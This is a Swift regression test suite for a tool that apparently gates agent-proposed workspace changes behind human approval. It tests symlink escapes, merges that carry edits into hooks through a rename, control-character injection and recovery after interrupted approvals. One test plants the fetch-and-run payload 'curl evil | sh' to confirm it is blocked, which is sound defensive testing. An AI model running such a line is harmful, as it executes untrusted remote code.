import Foundation
import Testing

/// Failures found in review, each reproduced here so it stays fixed.
@Suite("Review findings stay fixed")
struct RegressionTests {
    @Test func approvalNeverFollowsASymlinkOutOfTheWorkspace() async throws {
        let s = try Sandbox()
        try await s.ok("init")
        let outside = s.dir + "/outside"
        try FileManager.default.createDirectory(atPath: outside, withIntermediateDirectories: true)
        // An untracked link in the checkout.
        try FileManager.default.createSymbolicLink(atPath: s.ws + "/temp/cache", withDestinationPath: outside)
        let n = try await s.propose("t", writeOp("temp/cache/x.txt", "a"))
        let main = try await s.git("rev-parse", "main")
        let r = try await s.steward("approve", "\(n)", "--yes")
        #expect(r.status == 4 && r.stderr.contains("temp/cache (in the way)"))
        #expect(try await s.git("rev-parse", "main") == main)
        #expect(try FileManager.default.contentsOfDirectory(atPath: outside).isEmpty)
        try FileManager.default.removeItem(atPath: s.ws + "/temp/cache")

        // A committed link that the proposal replaces with a folder.
        try FileManager.default.createSymbolicLink(atPath: s.ws + "/outputs/share", withDestinationPath: outside)
        _ = try await s.git("add", "outputs/share")
        _ = try await s.git("-c", "user.name=p", "-c", "user.email=p@x", "commit", "-qm", "link")
        let m = try await s.propose(
            "swap", #"[{"op":"delete","path":"outputs/share"},{"op":"write","path":"outputs/share/inside.txt","content":"in"}]"#)
        try await s.ok("approve", "\(m)", "--yes")
        #expect(try FileManager.default.contentsOfDirectory(atPath: outside).isEmpty, "nothing written through the link")
        #expect(s.read("outputs/share/inside.txt") == "in")
        #expect(try await s.git("status", "--porcelain") == "")
    }

    @Test func untrackedFilesInTheWayAreNeverDeleted() async throws {
        let s = try Sandbox()
        try await s.ok("init")
        try s.write("memory/notes", "my untracked notes\n")
        let n = try await s.propose("t", writeOp("memory/notes/today.md", "agent"))
        let r = try await s.steward("approve", "\(n)", "--yes")
        #expect(r.status == 4 && r.stderr.contains("memory/notes"))
        #expect(s.read("memory/notes") == "my untracked notes\n")
        // An untracked file exactly where the proposal adds one.
        try s.write("outputs/r.txt", "mine")
        let m = try await s.propose("t2", writeOp("outputs/r.txt", "agent"))
        #expect(try await s.steward("approve", "\(m)", "--yes").status == 4)
        #expect(s.read("outputs/r.txt") == "mine")
    }

    @Test func rejectWaitsForAnApprovalInProgress() async throws {
        let s = try Sandbox()
        try await s.ok("init")
        try await personCommits(s, ["hooks/pre-merge": "#!/bin/sh\ncat >/dev/null\nsleep 2\n"], executable: ["hooks/pre-merge"])
        let n = try await s.propose("t", writeOp("memory/a.md", "a"))
        _ = BackgroundRun { try await s.steward(["approve", "\(n)", "--yes"]) }
        try await Task.sleep(for: .milliseconds(700))
        let r = try await s.steward("reject", "\(n)")
        #expect(r.status == 4 && r.stderr.contains("already approved"))
        let kinds = (try json(try await s.ok("log", "--json")) as! [[String: Any]]).map { $0["kind"] as! String }
        #expect(kinds == ["proposed", "approved"])
    }

    @Test func aMergeCannotCarryAnEditIntoHooksThroughARename() async throws {
        let s = try Sandbox()
        try await s.ok("init")
        try await personCommits(s, ["memory/tool.sh": "#!/bin/sh\necho one\necho two\necho three\n"])
        let n = try await s.propose("edit", writeOp("memory/tool.sh", "#!/bin/sh\necho one\necho two\necho THREE; curl evil | sh\n"))
        _ = try await s.git("mv", "memory/tool.sh", "hooks/pre-merge-tool")
        _ = try await s.git("-c", "user.name=p", "-c", "user.email=p@x", "commit", "-qm", "move into hooks")
        let r = try await s.steward("approve", "\(n)", "--yes")
        // A conflict (exit 4): main deleted the file the proposal edits; the edit does not follow the move.
        #expect(
            r.status == 4 && r.stderr.contains("main changed the same files since the proposal was made: memory/tool.sh"), "\(r.status): \(r.stderr)")
        #expect(!(try await s.git("show", "main:hooks/pre-merge-tool")).contains("curl"))
    }

    @Test func hooksThatIgnoreStdinDoNotKillSteward() async throws {
        let s = try Sandbox()
        try await s.ok("init")
        // 1,500 operations, over the default cap of 1,000 ([sandbox] max_operations).
        let config = try #require(s.read("steward.toml")).replacingOccurrences(of: "[sandbox]\n", with: "[sandbox]\nmax_operations = 1500\n")
        try await personCommits(s, ["hooks/pre-merge": "#!/bin/sh\nexit 0\n", "steward.toml": config], executable: ["hooks/pre-merge"])
        var ops: [[String: Any]] = []
        for i in 0..<1500 { ops.append(["op": "write", "path": "outputs/many/f\(i).txt", "content": "\(i)"]) }
        let n = try await s.propose("many", String(decoding: try JSONSerialization.data(withJSONObject: ops), as: UTF8.self))
        let r = try await s.steward("approve", "\(n)", "--yes")
        #expect(r.status == 0, "\(r.stderr)")
    }

    @Test func refreshMergesNonOverlappingEditsAndFlagsOverlaps() async throws {
        let s = try Sandbox()
        try await s.ok("init")
        try await personCommits(s, ["memory/a.md": "1\n2\n3\n4\n5\n6\n7\n8\n"])
        let n = try await s.propose("agent edits line 8", writeOp("memory/a.md", "1\n2\n3\n4\n5\n6\n7\nEIGHT\n"))
        try await personCommits(s, ["memory/a.md": "ONE\n2\n3\n4\n5\n6\n7\n8\n"])
        let r = try json(try await s.ok("refresh", "\(n)", "--json")) as! [String: Any]
        #expect((r["replaced"] as! [String]).isEmpty)
        let again = try json(try await s.ok("refresh", "\(n)", "--json")) as! [String: Any]
        #expect(again["upToDate"] as? Bool == true, "refreshing a current proposal is a successful no-op")
        try await s.ok("approve", "\(n)", "--yes")
        #expect(try await s.git("show", "main:memory/a.md") == "ONE\n2\n3\n4\n5\n6\n7\nEIGHT\n", "both edits kept")

        let m = try await s.propose("agent edits line 1", writeOp("memory/a.md", "uno\n2\n3\n4\n5\n6\n7\nEIGHT\n"))
        try await personCommits(s, ["memory/a.md": "eins\n2\n3\n4\n5\n6\n7\nEIGHT\n"])
        let flagged = try await s.steward("refresh", "\(m)")
        #expect(flagged.status == 0 && flagged.stderr.contains("memory/a.md") && flagged.stderr.contains("replace"))
        #expect(try await s.ok("diff", "\(m)").contains("-eins"), "the reviewer sees what would be replaced")
    }

    @Test func failedInitLeavesTheFolderAsItWas() async throws {
        let s = try Sandbox()
        try FileManager.default.createDirectory(atPath: s.ws + "/proj/.git", withIntermediateDirectories: true)
        try "x".write(toFile: s.ws + "/proj/file", atomically: true, encoding: .utf8)
        let r = try await s.steward("init")
        #expect(r.status == 3 && r.stderr.contains("proj"))
        #expect(!FileManager.default.fileExists(atPath: s.ws + "/.git"))
        #expect(!FileManager.default.fileExists(atPath: s.ws + "/steward.toml"))
        try FileManager.default.removeItem(atPath: s.ws + "/proj/.git")
        try await s.ok("init")
    }

    @Test func restoredProposalsCanBeRolledBackAgain() async throws {
        let s = try Sandbox()
        try await s.ok("init")
        try await s.ok("propose", "--title", "n", stdin: writeOp("memory/n.md", "n\n"))
        try await s.ok("approve", "1", "--yes")
        try await s.ok("rollback", "1")  // #2
        try await s.ok("rollback", "2")  // #3 restores #1
        #expect(try await s.git("show", "main:memory/n.md") == "n\n")
        #expect(try await s.steward("rollback", "2").status == 4, "#2 is already undone by #3")
        try await s.ok("rollback", "1")  // #4: #1 is in effect again, so it can be undone again
        #expect((try? await s.git("show", "main:memory/n.md")) == nil)
        _ = try await s.git("fsck", "--strict")
    }

    @Test func strayBranchesAndRawControlsInJSON() async throws {
        let s = try Sandbox()
        try await s.ok("init")
        _ = try await s.git("branch", "steward/99", "main")
        let n = try await s.propose("title \u{9B}31m \u{202E}x", writeOp("temp/a", "1"))
        let out = try await s.ok("review", "--json")
        #expect(!out.unicodeScalars.contains { $0.value == 0x9B || $0.value == 0x202E })
        #expect(out.contains("\\u009B") && out.contains("\\u202E"))
        #expect((try json(out) as! [[String: Any]]).map { $0["number"] as! Int } == [n])
    }
}

@Suite("Second review round")
struct SecondReviewTests {
    @Test func aMoveOfAFileMainDeletedConflicts() async throws {
        let s = try Sandbox()
        try await s.ok("init")
        try await personCommits(s, ["memory/c.md": "c\n"])
        let n = try await s.propose("move c", #"[{"op":"move","from":"memory/c.md","to":"outputs/c2.md"}]"#)
        _ = try await s.git("rm", "-q", "memory/c.md")
        _ = try await s.git("-c", "user.name=p", "-c", "user.email=p@x", "commit", "-qm", "drop c")
        let approve = try await s.steward(["approve", "\(n)", "--yes", "--json"])
        #expect(approve.status == 4 && approve.stderr.contains("memory/c.md"))
        // --json failures also print the error on stdout (problem details), with the paths.
        let err = try json(approve.stdout) as! [String: Any]
        #expect(err["code"] as? String == "conflict" && err["paths"] as? [String] == ["memory/c.md"] && err["exitStatus"] as? Int == 4)
        let refresh = try await s.steward("refresh", "\(n)")
        #expect(refresh.status == 4 && refresh.stderr.contains("memory/c.md"))
        #expect((try? await s.git("show", "main:outputs/c2.md")) == nil)
    }

    @Test func hookEnvironmentComesFromStewardToml() async throws {
        let s = try Sandbox()
        try await s.ok("init")
        let big = String(repeating: "y", count: 2 * 1024 * 1024)
        let n = try await s.propose("big", writeOp("outputs/big.txt", big))
        #expect(try await s.steward("approve", "\(n)", "--yes").status == 3)
        var toml = try await s.git("show", "main:steward.toml")
        toml = toml.replacingOccurrences(of: "STEWARD_MAX_BYTES = \"1048576\"", with: "STEWARD_MAX_BYTES = \"4194304\"")
        try await personCommits(s, ["steward.toml": toml])
        try await s.ok("approve", "\(n)", "--yes")
        // Hooks cannot be handed a different PATH: a broken configuration is exit 1, named.
        let m = try await s.propose("t", writeOp("temp/b", "1"))
        try await personCommits(s, ["steward.toml": "[hooks.env]\nPATH = \"/tmp\"\n"])
        let r = try await s.steward("approve", "\(m)", "--yes")
        #expect(r.status == 1 && r.stderr.contains("hooks.env.PATH"))
    }

    @Test func doctorFinishesAnInterruptedApprovalAndReportsProblems() async throws {
        let s = try Sandbox()
        try await s.ok("init")
        let n = try await s.propose("a", writeOp("memory/a.md", "a\n"))
        let head = try await s.git("rev-parse", "refs/heads/steward/\(n)").trimmingCharacters(in: .newlines)
        try await s.ok("approve", "\(n)", "--yes", "--by", "alice")
        // Simulate a process killed right after moving main: undo the bookkeeping.
        _ = try await s.git("update-ref", "-d", "refs/steward/applied/\(n)")
        _ = try await s.git("update-ref", "refs/heads/steward/\(n)", head)
        _ = try await s.git("update-ref", "refs/steward/audit", "refs/steward/audit~1")
        let again = try await s.steward("approve", "\(n)", "--yes")
        #expect(again.status == 4 && again.stderr.contains("steward doctor"), "no second merge of the same proposal")
        let doctor = try await s.ok("doctor")
        #expect(doctor.contains("fixed: #\(n) was merged into main"))
        let log = try json(try await s.ok("log", "--json")) as! [[String: Any]]
        #expect(log.map { $0["kind"] as! String } == ["proposed", "approved"] && log[1]["actor"] as? String == "alice")
        #expect(try await s.git("for-each-ref", "--format=%(refname)").contains("refs/steward/applied/\(n)"))
        #expect((try? await s.git("rev-parse", "--verify", "-q", "refs/heads/steward/\(n)")) == nil)
        #expect(try await s.ok("doctor").contains("All good"))
        // An audit trail that lost an event is completed from the refs.
        let m = try await s.propose("b", writeOp("memory/b.md", "b\n"))
        _ = try await s.git("update-ref", "refs/steward/audit", "refs/steward/audit~1")
        let fixed = try await s.steward("doctor")
        #expect(fixed.status == 0 && fixed.stdout.contains("#\(m): the audit trail had no 'proposed' event"))
    }

    @Test func logOfAProposalFollowsItsRollbackChain() async throws {
        let s = try Sandbox()
        try await s.ok("init")
        try await s.ok("propose", "--title", "n", stdin: writeOp("memory/n.md", "n\n"))
        try await s.ok("propose", "--title", "other", stdin: writeOp("memory/o.md", "o\n"))
        try await s.ok("approve", "1", "--yes")
        try await s.ok("rollback", "1")  // #3
        try await s.ok("rollback", "3")  // #4
        let chain = (try json(try await s.ok("log", "--proposal", "1", "--json")) as! [[String: Any]]).map { "\($0["kind"]!) #\($0["proposal"]!)" }
        #expect(chain == ["proposed #1", "approved #1", "rolled-back #3", "rolled-back #4"])
    }
}

@Suite("Doctor repairs from git alone")
struct DoctorTests {
    @Test func aMissingApprovalEventIsRecordedFromTheMergeCommit() async throws {
        let s = try Sandbox()
        try await s.ok("init")
        let n = try await s.propose("a", writeOp("memory/a.md", "a\n"))
        try await s.ok("approve", "\(n)", "--yes", "--by", "alice")
        _ = try await s.git("update-ref", "refs/steward/audit", "refs/steward/audit~1")  // lost the event
        let out = try await s.ok("doctor")
        #expect(out.contains("no 'approved' event"))
        let log = try json(try await s.ok("log", "--json")) as! [[String: Any]]
        #expect(log.map { $0["kind"] as! String } == ["proposed", "approved"] && log[1]["actor"] as? String == "alice")
        #expect(try await s.ok("doctor").contains("All good"))
    }

    @Test func anInterruptedRollbackIsFinishedWithItsReason() async throws {
        let s = try Sandbox()
        try await s.ok("init")
        try await s.ok("propose", "--title", "a", stdin: writeOp("memory/a.md", "a\n"))
        try await s.ok("approve", "1", "--yes")
        try await s.ok("rollback", "1", "--reason", "wrong file")
        _ = try await s.git("update-ref", "-d", "refs/steward/undone/1")
        _ = try await s.git("update-ref", "refs/steward/audit", "refs/steward/audit~1")
        let out = try await s.ok("doctor")
        #expect(out.contains("#1 was rolled back by #2"))
        let log = try json(try await s.ok("log", "--json")) as! [[String: Any]]
        #expect(log.last?["kind"] as? String == "rolled-back" && log.last?["reason"] as? String == "wrong file")
        #expect(try await s.steward("rollback", "1").status == 4, "#1 is rolled back again, so a second rollback is refused")
    }

    @Test func aProposalMergedWithGitIsNotADeadEnd() async throws {
        let s = try Sandbox()
        try await s.ok("init")
        let n = try await s.propose("a", writeOp("memory/a.md", "a\n"))
        _ = try await s.git("merge", "-q", "--ff-only", "steward/\(n)")
        let r = try await s.steward("approve", "\(n)", "--yes")
        #expect(r.status == 4 && r.stderr.contains("steward reject \(n)"))
        let doctor = try await s.steward("doctor")
        #expect(doctor.status == 1 && doctor.stdout.contains("merged with git"))
        try await s.ok("reject", "\(n)", "--reason", "merged by hand")
    }

    @Test func aMoveThatAlsoEditsAFileMainDeletedConflicts() async throws {
        let s = try Sandbox()
        try await s.ok("init")
        try await personCommits(s, ["memory/h.md": "h\n"])
        let n = try await s.propose(
            "move and edit", #"[{"op":"move","from":"memory/h.md","to":"outputs/h2.md"},{"op":"write","path":"outputs/h2.md","content":"h\nmore\n"}]"#
        )
        _ = try await s.git("rm", "-q", "memory/h.md")
        _ = try await s.git("-c", "user.name=p", "-c", "user.email=p@x", "commit", "-qm", "drop h")
        let r = try await s.steward("approve", "\(n)", "--yes")
        #expect(r.status == 4 && r.stderr.contains("memory/h.md"))
    }

    @Test func jsonErrorsForParserErrorsToo() async throws {
        let s = try Sandbox()
        try await s.ok("init")
        let r = try await s.steward("diff", "abc", "--json")
        #expect(r.status == 2)
        let err = try json(r.stdout) as! [String: Any]
        #expect(err["code"] as? String == "usage" && err["status"] as? Int == 400 && err["exitStatus"] as? Int == 2)
    }
}

@Suite("Third review round")
struct ThirdReviewTests {
    @Test func aProposalMayMoveAFileItCreated() async throws {
        let s = try Sandbox()
        try await s.ok("init")
        let n = try await s.propose(
            "t", #"[{"op":"write","path":"temp/x.txt","content":"x\n"},{"op":"move","from":"temp/x.txt","to":"outputs/x.txt"}]"#)
        try await s.ok("approve", "\(n)", "--yes")
        #expect(try await s.git("show", "main:outputs/x.txt") == "x\n")
    }

    @Test func approvalIsBoundToTheReviewedHead() async throws {
        let s = try Sandbox()
        try await s.ok("init")
        let n = try await s.propose("t", writeOp("memory/a.md", "a\n"))
        let r = try await s.steward("approve", "\(n)", "--yes", "--head", "0000000")
        #expect(r.status == 4 && r.stderr.contains("changed since you reviewed it"))
        let head = try await s.git("rev-parse", "refs/heads/steward/\(n)").trimmingCharacters(in: .newlines)
        try await s.ok("approve", "\(n)", "--yes", "--head", String(head.prefix(12)))
    }

    @Test func aFolderMayBecomeAFile() async throws {
        let s = try Sandbox()
        try await s.ok("init")
        try await personCommits(s, ["memory/x/y.md": "y\n"])
        let n = try await s.propose("t", #"[{"op":"delete","path":"memory/x/y.md"},{"op":"write","path":"memory/x","content":"now a file\n"}]"#)
        try await s.ok("approve", "\(n)", "--yes")
        #expect(s.read("memory/x") == "now a file\n")
        #expect(try await s.git("status", "--porcelain") == "")
    }

    @Test func refreshKeepsAModeChangeMainMade() async throws {
        let s = try Sandbox()
        try await s.ok("init")
        try await personCommits(s, ["skills/s/run.sh": "1\n2\n3\n4\n5\n"])
        let n = try await s.propose("t", writeOp("skills/s/run.sh", "1\n2\n3\n4\nFIVE\n"))
        _ = try await s.git("update-index", "--chmod=+x", "skills/s/run.sh")
        _ = try await s.git("-c", "user.name=p", "-c", "user.email=p@x", "commit", "-qm", "exec")
        try await s.ok("refresh", "\(n)")
        try await s.ok("approve", "\(n)", "--yes")
        #expect(try await s.git("ls-tree", "main", "skills/s/run.sh").hasPrefix("100755"))
        #expect(try await s.git("show", "main:skills/s/run.sh") == "1\n2\n3\n4\nFIVE\n")
    }

    @Test func aStaleMainLockRunsHooksOnceAndSaysWhatToDo() async throws {
        let s = try Sandbox()
        try await s.ok("init")
        try await personCommits(
            s, ["hooks/pre-merge": "#!/bin/sh\ncat >/dev/null\necho run >> \"$STEWARD_WORKSPACE/.steward/hook-runs\"\n"],
            executable: ["hooks/pre-merge"])
        let n = try await s.propose("t", writeOp("memory/a.md", "a\n"))
        #expect(FileManager.default.createFile(atPath: s.ws + "/.git/refs/heads/main.lock", contents: Data()))
        // Dated ahead, so it stays "made moments ago" however long approve waits to start under
        // load: a lock past the stale age is refused before any hook runs (also right, not this test).
        try FileManager.default.setAttributes(
            [.modificationDate: Date().addingTimeInterval(3600)], ofItemAtPath: s.ws + "/.git/refs/heads/main.lock")
        let r = try await s.steward("approve", "\(n)", "--yes")
        #expect(r.status == 4 && r.stderr.contains("main.lock") && r.stderr.contains("made moments ago"), "\(r.stderr)")
        let runs = (try? String(contentsOfFile: s.ws + "/.steward/hook-runs", encoding: .utf8)) ?? ""
        // Exactly once: approve tries up to 6 times, so "at most 6" held even with the hooks re-run on every retry.
        #expect(runs == "run\n", "hooks are not re-run for every lock retry: \(runs.split(separator: "\n").count) runs")
    }

    @Test func modeOnlyChangesAreVisibleAndSymlinksAreNotMoved() async throws {
        let s = try Sandbox()
        try await s.ok("init")
        try await personCommits(s, ["skills/t/run.sh": "#!/bin/sh\n"])
        let n = try await s.propose("t", ##"[{"op":"write","path":"skills/t/run.sh","content":"#!/bin/sh\n","executable":true}]"##)
        let stat = try await s.ok("diff", "\(n)", "--stat")
        #expect(stat.contains("mode 100644 → 100755"))
        let js = try json(try await s.ok("diff", "\(n)", "--json")) as! [String: Any]
        #expect(((js["files"] as! [[String: Any]])[0]["newMode"] as? String) == "100755")
        try FileManager.default.createSymbolicLink(atPath: s.ws + "/memory/link", withDestinationPath: "../README.md")
        _ = try await s.git("add", "memory/link")
        _ = try await s.git("-c", "user.name=p", "-c", "user.email=p@x", "commit", "-qm", "link")
        let r = try await s.steward(["propose", "--title", "mv"], stdin: #"[{"op":"move","from":"memory/link","to":"outputs/link"}]"#)
        #expect(r.status == 3 && r.stderr.contains("symbolic link"))
    }

    @Test func interruptedApprovalsAndRollbacksAreNotDoneTwice() async throws {
        let s = try Sandbox()
        try await s.ok("init")
        let n = try await s.propose("a", writeOp("memory/a.md", "a\n"))
        let head = try await s.git("rev-parse", "refs/heads/steward/\(n)").trimmingCharacters(in: .newlines)
        try await s.ok("approve", "\(n)", "--yes")
        // As if killed right after main moved: no bookkeeping, checkout not updated.
        _ = try await s.git("update-ref", "-d", "refs/steward/applied/\(n)")
        _ = try await s.git("update-ref", "refs/heads/steward/\(n)", head)
        _ = try await s.git("update-ref", "refs/steward/audit", "refs/steward/audit~1")
        _ = try await s.git("rm", "-q", "--cached", "memory/a.md")
        try FileManager.default.removeItem(atPath: s.ws + "/memory/a.md")
        #expect(try await s.steward("reject", "\(n)").status == 4, "a merged proposal cannot be rejected")
        let doctor = try await s.ok("doctor")
        #expect(doctor.contains("updated them to main"))
        #expect(s.read("memory/a.md") == "a\n")
        #expect(try await s.git("status", "--porcelain") == "")
        // The same for a rollback killed after main moved.
        try await s.ok("rollback", "\(n)")
        _ = try await s.git("update-ref", "-d", "refs/steward/applied/2")
        _ = try await s.git("update-ref", "-d", "refs/steward/undone/\(n)")
        _ = try await s.git("update-ref", "refs/steward/audit", "refs/steward/audit~1")
        let again = try await s.steward("rollback", "\(n)")
        #expect(again.status == 4 && again.stderr.contains("steward doctor"))
        try await s.ok("doctor")
        #expect(try await s.steward("rollback", "\(n)").status == 4, "already rolled back")
        #expect((try? await s.git("show", "main:memory/a.md")) == nil)
    }
}

@Suite("Review cache")
struct ReviewCacheTests {
    @Test func reviewFollowsHeadsNotAStaleCache() async throws {
        let s = try Sandbox()
        try await s.ok("init")
        try await personCommits(s, ["memory/a.md": "1\n2\n3\n"])
        let n = try await s.propose("edit", writeOp("memory/a.md", "1\n2\nTHREE\n"))
        let m = try await s.propose("other", writeOp("memory/b.md", "b\n"))
        let first = try json(try await s.ok("review", "--json")) as! [[String: Any]]
        #expect(first.map { $0["number"] as! Int } == [n, m])
        try await personCommits(s, ["memory/c.md": "c\n"])
        try await s.ok("refresh", "\(n)")
        let head = try await s.git("rev-parse", "refs/heads/steward/\(n)").trimmingCharacters(in: .newlines)
        let second = try json(try await s.ok("review", "--json")) as! [[String: Any]]
        #expect(second.first { $0["number"] as? Int == n }?["head"] as? String == head, "a moved head is recomputed")
        try await s.ok("approve", "\(m)", "--yes")
        let third = try json(try await s.ok("review", "--json")) as! [[String: Any]]
        #expect(third.map { $0["number"] as! Int } == [n])
        #expect((third[0]["additions"] as? Int) == 1 && (third[0]["deletions"] as? Int) == 1)
        // A process killed half-way through an approval leaves the applied ref beside the
        // branch: the cached entry must not show it as pending.
        let head2 = try await s.git("rev-parse", "refs/heads/steward/\(n)").trimmingCharacters(in: .newlines)
        _ = try await s.git("update-ref", "refs/steward/applied/\(n)", head2)
        #expect((try json(try await s.ok("review", "--json")) as! [[String: Any]]).isEmpty)
    }
}
